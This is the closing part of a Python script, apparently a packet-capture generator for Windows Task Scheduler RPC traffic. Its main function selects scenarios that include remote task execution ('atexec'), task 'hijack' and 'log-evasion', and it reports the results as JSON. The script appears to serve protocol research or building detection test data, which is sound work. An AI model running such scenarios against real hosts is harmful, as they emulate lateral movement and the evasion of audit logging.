    a = p.parse_args()
    if a.scenario == "atexec-clear":
        out = scen_atexec_clear(a)
    elif a.scenario == "tsch-smb2-clear":
        out = scen_tsch_np(a)
    elif a.scenario == "nbss139":
        out = scen_tsch_np(a, None, 139)
    elif a.scenario == "tcp":
        out = scen_tcp(a)
    elif a.scenario == "tcp-krb":
        out = scen_tcp_krb(a)
    elif a.scenario == "tcp-fault":
        out = scen_tcp_fault(a, False)
    elif a.scenario == "tcp-krb-fault":
        out = scen_tcp_fault(a, True)
    elif a.scenario == "tcp-interleaved":
        out = scen_tcp_interleaved(a)
    elif a.scenario == "tcp-integrity":
        out = scen_tcp(a, level=RPC_C_AUTHN_LEVEL_PKT_INTEGRITY)
    elif a.scenario == "tcp-ndr64":
        out = scen_tcp(a, ndr64=True)
    elif a.scenario == "at-smb1":
        out = scen_at_smb1(a)
    elif a.scenario == "at-smb2":
        out = scen_at_smb1(a, None, RPC_C_AUTHN_LEVEL_CONNECT)
    elif a.scenario == "atexec-smb1":
        out = scen_atexec_smb1(a, sealed=True)
    elif a.scenario == "atexec-smb1-clear":
        out = scen_atexec_smb1(a, sealed=False)
    elif a.scenario == "at-smb1-trans":
        out = scen_at_smb1_trans(a)
    elif a.scenario == "hijack":
        out = scen_hijack(a)
    elif a.scenario == "log-evasion":
        out = scen_log_evasion(a)
    elif a.scenario == "legacy-job-smb1":
        out = scen_legacy_job_smb1(a)
    else:
        out = scen_sasec(a)
    out.update(user=a.user, domain=a.domain, client="pcaps/gen/tsch_client.py " + a.scenario,
               library=library())
    if a.scenario.startswith("atexec") and a.atexec != ATEXEC:
        out.update(atexec=a.atexec, atexec_sha256=hashlib.sha256(open(a.atexec, "rb").read()).hexdigest())
    json.dump(out, sys.stdout, indent=2, sort_keys=True)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
